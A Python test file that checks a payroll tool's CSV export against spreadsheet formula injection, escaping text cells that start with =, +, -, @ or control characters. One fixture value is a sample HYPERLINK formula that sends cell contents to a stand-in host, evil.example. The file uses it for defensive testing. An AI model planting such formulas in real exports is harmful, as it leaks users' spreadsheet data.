"""`eval --format csv` never hands a spreadsheet a formula: a text cell that starts with `=`, `+`,
`-`, `@`, a tab or a carriage return gets a leading `'` (OWASP); figures, negative ones included,
stay numbers."""

from __future__ import annotations

import csv
import io

from click.testing import CliRunner
from hypothesis import given, strategies as st

from kpilang.cli import main
from kpilang.payouts.csv import inert_text

from tests.conftest import NORMATIVE
from tests.normative_managers import normative_data_with

NAMES = {"m1": '=HYPERLINK("http://evil.example/?"&A1,"Click")', "m2": "+7 (999) 123", "m3": "-2+3",
         "m4": "@SUM(A1:A9)"}


def _rows(tmp_path) -> list[dict[str, str]]:
    data = normative_data_with(tmp_path / "data", names=NAMES)
    plan = tmp_path / "plan.kpi"
    plan.write_text((NORMATIVE / "cold_sales.kpi").read_text(encoding="utf-8").replace(
        'pay total "Итого к выплате" =\n    salary + bonus + commission',
        'pay deduction "Удержание" =\n    -1% * revenue\n\n'
        'pay total "Итого к выплате" =\n    salary + bonus + commission + deduction'), encoding="utf-8")
    result = CliRunner().invoke(main, ["eval", str(plan), "--data", str(data), "--period", "2026-07",
                                       "--format", "csv"])
    assert result.exit_code == 0, result.output
    return list(csv.DictReader(io.StringIO(result.stdout)))


def test_names_that_start_a_formula_are_text_in_the_csv(tmp_path):
    rows = {row["manager_id"]: row for row in _rows(tmp_path)}
    for pid, name in NAMES.items():
        assert rows[pid]["name"] == "'" + name


def test_negative_figures_stay_numbers(tmp_path):
    rows = _rows(tmp_path)
    deductions = [row["deduction"] for row in rows]
    assert deductions and all(d.startswith("-") and not d.startswith("'") for d in deductions)
    assert "-11500.01" in deductions  # m1: -1% of 1 150 000,50, half up


def test_error_messages_are_neutralised_like_any_text():
    assert inert_text("-1 error") == "'-1 error"
    assert inert_text("\tx") == "'\tx" and inert_text("\rx") == "'\rx"
    assert inert_text("Анна") == "Анна" and inert_text("") == ""


@given(st.text())
def test_no_text_cell_starts_a_formula(text):
    cell = inert_text(text)
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert cell in (text, "'" + text)
